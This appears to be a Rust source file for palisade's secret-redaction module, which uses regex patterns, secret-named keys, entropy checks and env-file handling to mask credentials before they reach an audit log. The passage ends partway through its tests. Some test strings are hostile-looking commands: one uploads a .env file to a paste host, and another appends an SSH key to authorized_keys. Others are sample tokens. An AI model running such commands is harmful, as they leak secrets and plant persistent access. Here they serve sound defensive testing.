//! Secret redaction for everything palisade records or sends away: values that look like
//! credentials become `"[redacted]"` before they are hashed into the audit chain.
//!
//! Three mechanisms: patterns over every string (keys, tokens, private key blocks,
//! `Authorization` headers, URL passwords — only the secret part is replaced, so a command
//! line keeps its shape); object keys named like secrets (`password`, `api_key`, …), whose whole
//! value is replaced; and configured dotted paths (`env.API_TOKEN`, `headers.*`).

use regex::Regex;
use serde_json::Value;
use std::borrow::Cow;
use std::sync::OnceLock;

mod long_gates;

/// What a redacted secret is replaced with.
pub const REDACTED: &str = "[redacted]";

/// Deepest nesting redaction walks; deeper values are replaced whole (fail closed).
const MAX_DEPTH: usize = 128;

/// Each pattern has three groups: kept prefix, secret, kept suffix. It comes with the
/// lowercase literals one of which any match must contain: a pattern is compiled and run only
/// when one appears, so an ordinary command costs a few substring searches instead of the
/// milliseconds compiling all of them takes in a process that lives for one hook call.
const PATTERNS: &[(&[&str], &str)] = &[
    // PEM private key blocks (RSA, EC, OPENSSH, ENCRYPTED…), also when the END line is missing.
    (
        &["private key-----"],
        r"()(-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----(?s:.*?)(?:-----END [A-Z0-9 ]*PRIVATE KEY-----|\z))()",
    ),
    // Authorization / Proxy-Authorization headers, any scheme.
    (
        &["authorization"],
        r"(?i)(\b(?:proxy-)?authorization\s*[:=]\s*(?:(?:bearer|basic|token|digest|negotiate)\s+)?)([^\s'\x22,;]+)()",
    ),
    // A bare bearer token (`-H "Bearer …"` split from its header name).
    (
        &["bearer"],
        r"(?i)(\bbearer\s+)([A-Za-z0-9._~+/\-]{8,}=*)()",
    ),
    // Header-style API keys: `X-Api-Key: …`, `api-key: …`.
    (
        &["api&key"],
        r"(?i)(\b(?:x-)?api[-_]?key\s*:\s*)([^\s'\x22,;]+)()",
    ),
    // Anthropic / OpenAI keys.
    (&["sk-"], r"()(\bsk-(?:ant-|proj-)?[A-Za-z0-9_\-]{20,})()"),
    // GitHub tokens: classic (ghp_, gho_, ghu_, ghs_, ghr_) and fine-grained.
    (
        &["ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_"],
        r"()(\bgh[pousr]_[A-Za-z0-9]{30,}|\bgithub_pat_[A-Za-z0-9_]{22,})()",
    ),
    // Slack tokens.
    (&["xox"], r"()(\bxox[bpaors]-[A-Za-z0-9\-]{10,})()"),
    // AWS access key ids.
    (&["akia", "asia"], r"()(\b(?:AKIA|ASIA)[0-9A-Z]{16}\b)()"),
    // Google API keys.
    (&["aiza"], r"()(\bAIza[0-9A-Za-z_\-]{35})()"),
    // JSON Web Tokens.
    (
        &["eyj"],
        r"()(\beyJ[A-Za-z0-9_\-]{8,}\.eyJ[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,})()",
    ),
    // `password=…` in any form: query strings, env assignments, flags, `password: "…"` in
    // YAML/JSON/code. The value is on the name's line: a YAML key with none (`PASSWORD:`)
    // does not take the next line's key for its value.
    (
        &["passw"],
        r"(?i)(\b[\w\-]*(?:password|passwd)['\x22]?\s*[=:][ \t]*['\x22]?)([^\s&'\x22;,]+)()",
    ),
    // Long hex/base64 after `token=`, `key:`, `secret=` (`api_key=`, `GITHUB_TOKEN=`,
    // `"client_secret": "…"`), on the same line.
    (
        &["token =", "key =", "secret ="],
        r"(?i)(\b[\w\-]*(?:token|key|secret)['\x22]?\s*[=:][ \t]*['\x22]?)([A-Za-z0-9+/_\-\.]{16,}={0,2})()",
    ),
    // Passwords in URLs: `https://user:pw@host`.
    (
        &[URL_USERINFO],
        r"(?i)(\b[a-z][a-z0-9+.\-]*://[^/\s:@]+:)([^/\s@]+)(@)",
    ),
    // `--password VALUE`, `--passwd=VALUE`, `--passphrase VALUE` (not `--password-stdin`).
    (
        &["--pass"],
        r"(?i)(--pass(?:word|wd|phrase)?(?:\s+|=)['\x22]?)([^\s'\x22;&|]+)()",
    ),
    // `sshpass -p VALUE`.
    (
        &["sshpass"],
        r"(\bsshpass\s+(?:-[a-zA-Z]\s+)*-p\s*['\x22]?)([^\s'\x22;&|]+)()",
    ),
    // `docker login -p VALUE` (podman, helm registry, buildah…).
    (
        &["login"],
        r"(\blogin\b[^\n;&|]*?\s-p\s*['\x22]?)([^\s'\x22;&|]+)()",
    ),
    // `mysql -pVALUE`, `mysqldump -pVALUE`, `mariadb -pVALUE`.
    (
        &["mysql", "mariadb"],
        r"(\b(?:mysql|mariadb)[a-z_]*\b[^\n;&|]*?\s-p)([^\s'\x22;&|]+)()",
    ),
    // `curl -u user:pass`, `--user user:pass`.
    (
        &["-u&:", "--user&:"],
        r"((?:^|\s)(?:-u|--user)(?:\s*|=)['\x22]?[^\s:'\x22]+:)([^\s'\x22@]+)()",
    ),
    // `aws configure set aws_secret_access_key VALUE` (and any secret-named setting).
    (
        &["configure"],
        r"(?i)(\bconfigure\s+set\s+[\w.\-]*(?:secret|token|key|password)[\w.\-]*\s+['\x22]?)([^\s'\x22;&|]+)()",
    ),
    // Secret-named variables of any length: `DB_PASS=x`, `export API_TOKEN="y"`,
    // `SECRET: z` (env files, YAML). Upper-case names only: `key=short` stays. The value is
    // on the name's line (a YAML key with none does not take the next line's key), and is not
    // an escape of JSON text (`NPM_TOKEN: \n` of an escaped file is an empty value) nor a
    // reference to where the secret is kept (`NPM_TOKEN: ${{ secrets.NPM_TOKEN }}`, `KEY=$KEY`).
    (
        &[
            "PASS* =",
            "SECRET* =",
            "TOKEN* =",
            "KEY* =",
            "CREDENTIAL* =",
        ],
        r"(\b[A-Z0-9_]*(?:PASS|SECRET|TOKEN|KEY|CREDENTIAL)[A-Z0-9_]*['\x22]?\s*[=:][ \t]*['\x22]?)([^\s'\x22`;&|\\$][^\s'\x22`;&|]*)()",
    ),
    // A password given in prose (`my password is hunter2`), as users type it in a message.
    (
        &["password is", "password was", "passphrase is", "password:"],
        r"(?i)(\bpass(?:word|phrase)\s*(?:is|was|:)[ \t]*['\x22]?)([^\s'\x22]+)()",
    ),
    // GitLab tokens (personal, pipeline trigger, deploy, runner).
    (
        &["glpat-", "glptt-", "gldt-", "glrt-"],
        r"()(\bgl(?:pat|ptt|dt|rt)-[A-Za-z0-9_\-]{16,})()",
    ),
    // Slack incoming webhooks: the path after `/services/` is the secret.
    (
        &["hooks.slack.com"],
        r"(hooks\.slack\.com/(?:services|workflows|triggers)/)([A-Za-z0-9_/\-]+)()",
    ),
    // SendGrid API keys.
    (
        &["SG."],
        r"()(\bSG\.[A-Za-z0-9_\-]{16,}\.[A-Za-z0-9_\-]{16,})()",
    ),
    // Mailgun keys.
    (&["key-"], r"()(\bkey-[0-9a-f]{32}\b)()"),
    // Azure SAS signatures (and any `sig=` query parameter).
    (&["sig="], r"(?i)(\bsig=)([^&\s'\x22]+)()"),
    // Stripe secret and restricted keys.
    (
        &["_live_", "_test_"],
        r"()(\b(?:sk|rk)_(?:live|test)_[A-Za-z0-9]{10,})()",
    ),
    // npm and Hugging Face tokens.
    (
        &["npm_", "hf_"],
        r"()(\b(?:npm_[A-Za-z0-9]{30,}|hf_[A-Za-z0-9]{30,}))()",
    ),
];

/// Each pattern, compiled on first need.
static COMPILED: [OnceLock<Regex>; PATTERNS.len()] = [const { OnceLock::new() }; PATTERNS.len()];

fn compiled(i: usize) -> &'static Regex {
    // The patterns are constants checked by the tests; an invalid one is a build-time bug.
    COMPILED[i].get_or_init(|| Regex::new(PATTERNS[i].1).expect("redaction pattern compiles"))
}

/// Object keys whose values are secrets whatever they look like: matched on the key lowercased
/// with every non-alphanumeric removed, by suffix (`client_secret`, `GITHUB_TOKEN`, `X-Api-Key`).
const SECRET_KEY_SUFFIXES: &[&str] = &[
    "password",
    "passwd",
    "pass",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "authorization",
    "privatekey",
    "accesskey",
    "secretkey",
    "credentials",
    "credential",
    "cookie",
];

/// True when an object key names a secret.
pub fn is_secret_key(key: &str) -> bool {
    let norm: String = key
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .map(|c| c.to_ascii_lowercase())
        .collect();
    !norm.is_empty() && SECRET_KEY_SUFFIXES.iter().any(|s| norm.ends_with(s))
}

/// True when one of a pattern's literals is in the text. A literal with an upper-case letter is
/// matched case-sensitively, the others against the lowercased text; `a&b` needs both parts.
#[cfg(test)]
fn gate_open(needles: &[&str], text: &str, lower: &str) -> bool {
    gate_open_in(needles, text, lower, &ByteSet::of(text))
}

/// `gate_open` with the bytes `text` holds already counted: a literal with a byte the text
/// (or its lowercased copy) lacks is not in it, told without a substring search, whose set-up
/// cost more than a short text's whole check (a fifth of the instructions of recording a
/// short command went to the gates' searches).
fn gate_open_in(needles: &[&str], text: &str, lower: &str, bytes: &ByteSet) -> bool {
    needles.iter().any(|n| {
        if *n == URL_USERINFO {
            return bytes.holds_all(b"://@", false) && url_userinfo(text);
        }
        n.split('&').all(|part| {
            let (word, after) = assignment(part);
            let exact = word.bytes().any(|b| b.is_ascii_uppercase());
            if !bytes.holds_all(word.as_bytes(), !exact) {
                return false;
            }
            let hay = if exact { text } else { lower };
            match after {
                None => hay.contains(word),
                Some(name_tail) => assigned(hay, word, name_tail),
            }
        })
    })
}

/// The bytes a text holds (a bit each): what the gates ask before searching for a literal.
struct ByteSet([u64; 4]);

impl ByteSet {
    /// Texts longer than this count as holding every byte: the pass over them would cost
    /// more than the searches it could spare, which stop at a literal's first occurrence.
    const MAX_COUNTED: usize = 4096;

    fn of(text: &str) -> ByteSet {
        if text.len() > Self::MAX_COUNTED {
            return ByteSet([u64::MAX; 4]);
        }
        let mut set = [0u64; 4];
        for b in text.bytes() {
            set[usize::from(b >> 6)] |= 1 << (b & 63);
        }
        ByteSet(set)
    }

    fn has(&self, b: u8) -> bool {
        self.0[usize::from(b >> 6)] & (1 << (b & 63)) != 0
    }

    /// Whether every byte of `word` is in the text or, with `lowered`, in its ASCII-lowercased
    /// copy (where a lower-case letter stands for either case of it in the text).
    fn holds_all(&self, word: &[u8], lowered: bool) -> bool {
        word.iter().all(|&b| {
            self.has(b) || (lowered && b.is_ascii_lowercase() && self.has(b.to_ascii_uppercase()))
        })
    }
}

/// The gate of the URL-password pattern: a `user:password@` right after a `://`.
const URL_USERINFO: &str = "://user:password@";

/// Whether some `://` in `text` is followed, before the next `/` or white space, by a `:` and
/// then an `@`: what a password in a URL needs. `://` and `@` anywhere opened the gate for
/// every reason that named a URL and a file (`@.env`), and compiling the pattern was a fifth
/// of such a call.
fn url_userinfo(text: &str) -> bool {
    text.match_indices("://")
        .any(|(i, _)| userinfo_follows(&text[i + 3..]))
}

/// Whether `rest`, what follows a `://`, holds a `:` then an `@` before its first `/` or white
/// space.
fn userinfo_follows(rest: &str) -> bool {
    let authority = &rest[..rest
        .find(|c: char| c == '/' || c.is_whitespace())
        .unwrap_or(rest.len())];
    authority
        .find(':')
        .is_some_and(|colon| authority[colon..].contains('@'))
}

/// A gate part that names an assignment: `"key ="` is `key` followed by what an assignment
/// needs, `"KEY* ="` the same with name characters between (`KEY_ID =`). Returns the literal
/// and, for an assignment, whether name characters may follow it. A bare `key` opened the
/// gate for every text that mentions a key ("private keys", `authorized_keys`), and compiling
/// those patterns was two thirds of such a call.
fn assignment(part: &str) -> (&str, Option<bool>) {
    match part.strip_suffix("* =") {
        Some(word) => (word, Some(true)),
        None => match part.strip_suffix(" =") {
            Some(word) => (word, Some(false)),
            None => (part, None),
        },
    }
}

/// Whether `word` occurs in `text` followed by `[A-Z0-9_]*` (when `name_tail`), an optional
/// quote, white space, then `=` or `:`: what the assignment patterns need after their word.
fn assigned(text: &str, word: &str, name_tail: bool) -> bool {
    text.match_indices(word)
        .any(|(i, _)| assignment_follows(&text[i + word.len()..], name_tail, false))
}

/// Whether `rest`, what follows a gate's word, is what an assignment needs after it (see
/// [`assigned`]); `lowered` reads it as its ASCII-lowercased copy would read.
fn assignment_follows(rest: &str, name_tail: bool, lowered: bool) -> bool {
    let mut rest = rest
        .chars()
        .map(|c| if lowered { c.to_ascii_lowercase() } else { c })
        .peekable();
    if name_tail {
        while rest
            .next_if(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == '_')
            .is_some()
        {}
    }
    rest.next_if(|c| *c == '\'' || *c == '"');
    while rest.next_if(|c| c.is_whitespace()).is_some() {}
    matches!(rest.next(), Some('=' | ':'))
}

/// Replaces the secret parts of a string with `[redacted]`, keeping the rest.
pub fn redact_text(s: &str) -> String {
    // Each step copies the text only when it changes it: a long written file usually has no
    // secret, and each copy of a 1 MB text was a quarter-thousand page faults.
    let mut out = Cow::Borrowed(s);
    // A long text's gates are found in one pass ([`long_gates`]); they stand for the text as it
    // came, so once a pattern changes it the remaining gates are read from it as it is.
    let mut found = long_gates::Found::in_long_text(s);
    let mut lower: Option<(String, ByteSet)> = None;
    for (i, (needles, _)) in PATTERNS.iter().enumerate() {
        let open = match &found {
            Some(f) => f.open(i),
            None => {
                let (lower, bytes) =
                    lower.get_or_insert_with(|| (out.to_ascii_lowercase(), ByteSet::of(&out)));
                gate_open_in(needles, &out, lower, bytes)
            }
        };
        if !open {
            continue;
        }
        if let Cow::Owned(o) = replace_secrets(i, &out) {
            found = None;
            lower = None;
            out = Cow::Owned(o);
        }
    }
    let out = match redact_high_entropy(&out) {
        Cow::Borrowed(_) => out,
        Cow::Owned(o) => Cow::Owned(o),
    };
    redact_literals(&out).into_owned()
}

/// Pattern `i`'s secrets in `text` replaced; borrowed when there were none.
fn replace_secrets<'t>(i: usize, text: &'t str) -> Cow<'t, str> {
    compiled(i).replace_all(text, |c: &regex::Captures<'_>| {
        let pre = c.get(1).map_or("", |m| m.as_str());
        let post = c.get(3).map_or("", |m| m.as_str());
        format!("{pre}{REDACTED}{post}")
    })
}

/// Secret values this process knows literally (the risk backend's key): scrubbed from every
/// string redacted afterwards, wherever they appear, whatever they look like.
static LITERALS: std::sync::Mutex<Vec<String>> = std::sync::Mutex::new(Vec::new());

/// Registers a literal secret (at least 8 characters) for every later redaction.
pub fn register_secret(secret: &str) {
    let secret = secret.trim();
    if secret.len() < 8 {
        return;
    }
    if let Ok(mut l) = LITERALS.lock()
        && !l.iter().any(|s| s == secret)
    {
        l.push(secret.to_string());
    }
}

fn redact_literals(s: &str) -> Cow<'_, str> {
    let Ok(l) = LITERALS.lock() else {
        // A poisoned list: the literals are unknown, so nothing of the text is kept.
        return Cow::Borrowed(REDACTED);
    };
    let mut out = Cow::Borrowed(s);
    for secret in l.iter() {
        if out.contains(secret.as_str()) {
            out = Cow::Owned(out.replace(secret.as_str(), REDACTED));
        }
    }
    out
}

/// Least length of a token judged by its entropy.
const ENTROPY_MIN_LEN: usize = 24;
/// Shannon entropy (bits per character) from which a mixed-case alphanumeric token is taken for
/// a random secret.
const ENTROPY_MIN_BITS: f64 = 4.0;

/// Replaces tokens that look random: 24+ characters of `[A-Za-z0-9+/=_-]` with upper- and
/// lower-case letters and digits and a high entropy (base64 keys, AWS secrets), and bare
/// 32-character hex strings (Twilio, Mailgun, many API tokens). Paths (`/`-led or with `//`),
/// git hashes (40 hex) and UUIDs (dashed hex) are kept. A linear scan, no regex.
fn redact_high_entropy(s: &str) -> Cow<'_, str> {
    // A table, not the character tests: this loop reads every byte of a written file, and
    // the tests were a quarter of a 100 KB here-doc's redaction.
    static TOKEN: [bool; 256] = {
        let mut t = [false; 256];
        let mut b = 0;
        while b < 256 {
            let c = b as u8;
            t[b] = c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'_' | b'-');
            b += 1;
        }
        t
    };
    let is_tok = |b: u8| TOKEN[b as usize];
    let bytes = s.as_bytes();
    let mut spans: Vec<(usize, usize)> = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if !is_tok(bytes[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && is_tok(bytes[i]) {
            i += 1;
        }
        // Split `NAME=value`: only the value is judged.
        let mut tok_start = start;
        if let Some(eq) = bytes[start..i].iter().position(|b| *b == b'=')
            && eq > 0
            && eq + 1 < i - start
        {
            tok_start = start + eq + 1;
        }
        let tok = &s[tok_start..i];
        // Most tokens are words, too short to judge (`looks_random` needs 24 bytes, or 32 of
        // hex).
        if tok.len() >= ENTROPY_MIN_LEN.min(32) && looks_random(tok) {
            spans.push((tok_start, i));
        }
    }
    if spans.is_empty() {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut last = 0;
    for (a, b) in spans {
        out.push_str(&s[last..a]);
        out.push_str(REDACTED);
        last = b;
    }
    out.push_str(&s[last..]);
    Cow::Owned(out)
}

fn looks_random(tok: &str) -> bool {
    let b = tok.as_bytes();
    let hex = b.iter().all(|c| c.is_ascii_hexdigit());
    if hex && b.len() == 32 {
        return b.iter().any(|c| c.is_ascii_digit()) && b.iter().any(|c| c.is_ascii_alphabetic());
    }
    if b.len() < ENTROPY_MIN_LEN || b[0] == b'/' || b[0] == b'-' || tok.contains("//") {
        return false;
    }
    let (mut up, mut low, mut dig) = (false, false, false);
    for c in b {
        up |= c.is_ascii_uppercase();
        low |= c.is_ascii_lowercase();
        dig |= c.is_ascii_digit();
    }
    if !(up && low && dig) {
        return false;
    }
    // Path-like tokens (`tmpXy12/project/src`) have words between their slashes: a segment
    // of three or more lower-case letters is almost never part of a random key.
    if tok.contains('/')
        && (b.iter().filter(|c| **c == b'/').count() * 8 > b.len()
            || tok
                .split('/')
                .any(|seg| seg.len() >= 3 && seg.bytes().all(|c| c.is_ascii_lowercase())))
    {
        return false;
    }
    let mut counts = [0u32; 256];
    for c in b {
        counts[*c as usize] += 1;
    }
    let n = b.len() as f64;
    let bits: f64 = counts
        .iter()
        .filter(|c| **c > 0)
        .map(|c| {
            let p = f64::from(*c) / n;
            -p * p.log2()
        })
        .sum();
    bits >= ENTROPY_MIN_BITS
}

/// True when a path names an env file (`.env`, `.env.local`, `prod.env`).
fn is_env_file(path: &str) -> bool {
    let name = path.rsplit(['/', '\\']).next().unwrap_or(path);
    name.starts_with(".env") || name.ends_with(".env")
}

/// Every value of a `NAME=value` (or `export NAME=value`) line: what an env file holds is secret
/// whatever its name.
fn redact_env_lines(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for (i, line) in text.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        let t = line.trim_start();
        let body = t.strip_prefix("export ").unwrap_or(t);
        match body.split_once('=') {
            Some((name, value))
                if !name.is_empty()
                    && !value.trim().is_empty()
                    && !t.starts_with('#')
                    && name
                        .trim()
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-')) =>
            {
                let keep = line.len() - value.len();
                out.push_str(&line[..keep]);
                out.push_str(REDACTED);
            }
            _ => out.push_str(line),
        }
    }
    out
}

/// A tool input redacted for recording or sending: [`redact_value`], plus every value in the
/// content written to an env file (`Write`/`Edit` of `.env*`).
pub fn redact_tool_input(input: &Value, extra_paths: &[String]) -> Value {
    let mut v = redact_value(input, extra_paths);
    let env_target = ["file_path", "path", "notebook_path"]
        .iter()
        .filter_map(|k| input.get(k).and_then(Value::as_str))
        .any(is_env_file);
    if env_target && let Value::Object(map) = &mut v {
        for (k, child) in map.iter_mut() {
            if !matches!(k.as_str(), "file_path" | "path" | "notebook_path") {
                env_walk(child, 0);
            }
        }
    }
    v
}

fn env_walk(v: &mut Value, depth: usize) {
    if depth > MAX_DEPTH {
        *v = Value::String(REDACTED.into());
        return;
    }
    match v {
        Value::String(s) => *s = redact_env_lines(s),
        Value::Array(items) => items.iter_mut().for_each(|x| env_walk(x, depth + 1)),
        Value::Object(map) => map.values_mut().for_each(|x| env_walk(x, depth + 1)),
        _ => {}
    }
}

/// A copy of `v` with secrets redacted: strings by pattern, values under secret-named keys, and
/// values at `extra_paths` (dotted, relative to `v`; `*` matches any key or array index).
pub fn redact_value(v: &Value, extra_paths: &[String]) -> Value {
    let paths: Vec<Vec<&str>> = extra_paths
        .iter()
        .filter(|p| !p.is_empty())
        .map(|p| p.split('.').collect())
        .collect();
    let active: Vec<(usize, usize)> = (0..paths.len()).map(|i| (i, 0)).collect();
    walk(v, &paths, &active, 0)
}

/// `active` holds (path index, how many segments of it are already matched).
fn walk(v: &Value, paths: &[Vec<&str>], active: &[(usize, usize)], depth: usize) -> Value {
    if depth > MAX_DEPTH {
        return Value::String(REDACTED.into());
    }
    match v {
        Value::String(s) => Value::String(redact_text(s)),
        Value::Object(map) => {
            let mut out = serde_json::Map::with_capacity(map.len());
            for (k, child) in map {
                let value = redact_child(k, child, paths, active, depth, is_secret_key(k));
                out.insert(redact_text(k), value);
            }
            Value::Object(out)
        }
        Value::Array(items) => Value::Array(
            items
                .iter()
                .enumerate()
                .map(|(i, child)| redact_child(&i.to_string(), child, paths, active, depth, false))
                .collect(),
        ),
        other => other.clone(),
    }
}

fn redact_child(
    key: &str,
    child: &Value,
    paths: &[Vec<&str>],
    active: &[(usize, usize)],
    depth: usize,
    secret_key: bool,
) -> Value {
    let mut next = Vec::new();
    let mut whole = secret_key && !child.is_null();
    for &(pi, matched) in active {
        let path = &paths[pi];
        let seg = path[matched];
        if seg == "*" || seg == key {
            if matched + 1 == path.len() {
                whole = true;
            } else {
                next.push((pi, matched + 1));
            }
        }
    }
    if whole {
        Value::String(REDACTED.into())
    } else {
        walk(child, paths, &next, depth + 1)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn r(s: &str) -> String {
        redact_text(s)
    }

    /// Every pattern run on `s`, as if no gate existed.
    fn ungated(s: &str) -> String {
        let mut out = s.to_string();
        for i in 0..PATTERNS.len() {
            out = replace_secrets(i, &out).into_owned();
        }
        redact_literals(&redact_high_entropy(&out)).into_owned()
    }

    /// A piece of a generated text: a gate's literal (as written, upper-cased or capitalized),
    /// a secret's shape, an assignment's or URL's punctuation, or a short run of anything.
    fn piece() -> impl proptest::strategy::Strategy<Value = String> {
        use proptest::prelude::*;
        let literals: Vec<String> = PATTERNS
            .iter()
            .flat_map(|(needles, _)| needles.iter())
            .flat_map(|n| n.split('&'))
            .map(|p| assignment(p).0.to_string())
            .collect();
        prop_oneof![
            (proptest::sample::select(literals), 0..3u8).prop_map(|(l, case)| match case {
                0 => l,
                1 => l.to_ascii_uppercase(),
                _ => {
                    let mut c = l.chars();
                    c.next()
                        .map(|f| f.to_ascii_uppercase().to_string() + c.as_str())
                        .unwrap_or_default()
                }
            }),
            proptest::sample::select(vec![
                "=",
                ": ",
                " = ",
                "'",
                "\"",
                "://",
                "@",
                ":",
                " ",
                "_",
                "-",
                "\n",
                "Bearer ",
                "sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWx",
                "AKIAABCDEFGHIJKLMNOP",
                "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
                "eyJhbGciOi.eyJzdWIiOi.c2lnbmF0dXJl",
                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n",
            ])
            .prop_map(str::to_string),
            "[ -~]{0,12}",
            "[a-zA-Z0-9+/=]{16,40}",
        ]
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(512))]
        /// The gates (the bytes a text holds, then the literals searched) change no answer on
        /// texts made of the patterns' own literals, secrets and the punctuation around them.
        #[test]
        fn gates_change_no_answer_on_generated_texts(
            parts in proptest::collection::vec(piece(), 0..10)
        ) {
            let s = parts.concat();
            proptest::prop_assert_eq!(redact_text(&s), ungated(&s));
        }
    }

    #[test]
    fn gates_change_no_answer() {
        for s in [
            "API_KEY_ID = abcdefghijklmnop1234",
            "api_key: 'abcdefghijklmnopqrst'",
            "\"api_key\": \"abcdefghijklmnopqrstu\"",
            "my_token\u{a0}=\u{a0}abcdefghijklmnopqr",
            "client_secret:abcdefghijklmnopqrstuv",
            "export GITHUB_TOKEN=ghx_notaprefix_but_long_value",
            "DB_PASSWORD_FILE='x'",
            "CREDENTIALS_JSON = {\"a\": 1}",
            "Reading private keys or cloud credentials is refused: `cat`",
            "echo 'ssh-ed25519 AAAAC3 x' >> ~/.ssh/authorized_keys",
            "the keys: a, b",
            "token bucket: 3",
            "KEY_LIST:",
            "git clone https://deploy:hunter2pass@git.example.com/r.git",
            "HTTPS://U:P@HOST",
            "redis://:s3cretpw@cache:6379/0",
            "postgres://app:pa:ss@db/x and https://x.io/a@b",
            "curl -u a:b https://x.io/p@q ftp://h:21@",
            "https://x\u{2003}user:pw@h",
            "",
        ] {
            assert_eq!(redact_text(s), ungated(s), "{s:?}");
            // Long, so that its gates are found in one pass (`long_gates`); twice, so that the
            // gates after a replacement are read again.
            let pad = "let x = 1; // a line of code\n".repeat(700);
            let long = format!("{pad}{s}\n{pad}{s}");
            assert_eq!(redact_text(&long), ungated(&long), "{s:?} in a long text");
        }
        // A URL and an `@` elsewhere (a reason naming `curl … @.env https://…`) do not open
        // the URL-password gate; a password in the URL does.
        let url_gate = &PATTERNS
            .iter()
            .find(|(n, _)| n.contains(&URL_USERINFO))
            .unwrap()
            .0;
        for (s, open) in [
            (
                "curl --data-binary @.env https://paste.example.net/up",
                false,
            ),
            ("https://github.com/a/b@v1 and me@example.com", false),
            ("ssh://git@github.com/a/b", false),
            ("https://u:p@example.com/", true),
            ("HTTPS://U:P@HOST", true),
        ] {
            assert_eq!(
                gate_open(url_gate, s, &s.to_ascii_lowercase()),
                open,
                "{s:?}"
            );
        }
        // What only mentions a key opens no assignment gate.
        for s in [
            "Reading private keys or cloud credentials is refused: `cat`",
            "echo 'ssh-ed25519 AAAAC3 x' >> ~/.ssh/authorized_keys",
        ] {
            let lower = s.to_ascii_lowercase();
            for (needles, source) in PATTERNS {
                if source.contains("token|key|secret") || source.contains("KEY|CREDENTIAL") {
                    assert!(!gate_open(needles, s, &lower), "{s:?}");
                }
            }
        }
    }

    #[test]
    fn a_secret_names_value_is_on_its_line_and_is_no_reference() {
        // A YAML key with no value, an escaped newline, a reference to where the secret is kept.
        for t in [
            "env:\n  NPM_TOKEN: \n  RELEASE_NAME_FOR_THE_CHANGELOG: x\n",
            "{\"content\":\"x\\n  NPM_TOKEN: \\n  RELEASE_NAME_FOR_THE_CHANGELOG: x\"}",
            "env:\n  NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
            "API_KEY=$API_KEY make deploy",
            "password:\n  - rotate monthly\n",
        ] {
            assert_eq!(redact_text(t), t, "{t}");
        }
        assert_eq!(
            redact_text("env:\n  NPM_TOKEN: npm_abcdefghij0123456789\n"),
            "env:\n  NPM_TOKEN: [redacted]\n"
        );
        assert_eq!(redact_text("DB_PASS='x1'"), "DB_PASS='[redacted]'");
    }

    #[test]
    fn redacts_each_secret_kind_and_keeps_the_shape() {
        let cases = [
            (
                "curl -H \"Authorization: Bearer abc123def456\" https://x",
                "curl -H \"Authorization: Bearer [redacted]\" https://x",
            ),
            (
                "curl -H 'Authorization: Basic dXNlcjpwYXNz' x",
                "curl -H 'Authorization: Basic [redacted]' x",
            ),
            (
                "export ANTHROPIC_API_KEY=sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWx",
                "export ANTHROPIC_API_KEY=[redacted]",
            ),
            (
                "echo sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123",
                "echo [redacted]",
            ),
            (
                "git clone https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/a/b",
                "git clone https://[redacted]@github.com/a/b",
            ),
            (
                "gh auth login --with-token github_pat_11ABCDEFG0123456789_abcdefghijklmnop",
                "gh auth login --with-token [redacted]",
            ),
            ("SLACK=xoxb-1234567890-abcdefghij", "SLACK=[redacted]"),
            ("aws id AKIAIOSFODNN7EXAMPLE now", "aws id [redacted] now"),
            (
                "k=AIzaSyA-1234567890abcdefghijklmnopqrstu!",
                "k=[redacted]!",
            ),
            (
                "jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U end",
                "jwt [redacted] end",
            ),
            (
                "curl 'https://api.x.com/v1?token=0123456789abcdef0123&q=1'",
                "curl 'https://api.x.com/v1?token=[redacted]&q=1'",
            ),
            (
                "mysql --password=hunter2 db",
                "mysql --password=[redacted] db",
            ),
            (
                "psql postgres://admin:s3cret@db.local/x",
                "psql postgres://admin:[redacted]@db.local/x",
            ),
            (
                "cat <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\nEOF",
                "cat <<EOF\n[redacted]\nEOF",
            ),
        ];
        for (input, want) in cases {
            assert_eq!(r(input), want, "input: {input}");
        }
    }

    #[test]
    fn every_pattern_compiles_and_its_needles_have_one_case() {
        for (i, (needles, _)) in PATTERNS.iter().enumerate() {
            let _ = compiled(i);
            assert!(
                needles
                    .iter()
                    .all(|n| *n == n.to_ascii_lowercase() || *n == n.to_ascii_uppercase()),
                "{needles:?}"
            );
        }
    }

    #[test]
    fn leaves_ordinary_text_alone() {
        for s in [
            "cargo build --release",
            "pip install scikit-learn",
            "git push origin main",
            "https://github.com/rust-lang/rust",
            "key=short",
            "max_tokens: 100",
            "ask-before-running",
            "env PWD=/home/dev/project OLDPWD=/tmp make",
            "cache-key: v1",
        ] {
            assert_eq!(r(s), s);
        }
    }

    #[test]
    fn redacts_secret_keys_and_configured_paths() {
        let v = json!({
            "command": "ls",
            "password": "hunter2",
            "env": {"API_TOKEN": "x", "HOME": "/h", "DB": "plain"},
            "headers": {"X-Custom": "a", "Accept": "b"},
            "items": [{"v": "keep"}, {"v": "keep"}],
            "max_tokens": 5,
            "nothing": null
        });
        let out = redact_value(
            &v,
            &["env.DB".into(), "headers.*".into(), "items.1.v".into()],
        );
        assert_eq!(
            out,
            json!({
                "command": "ls",
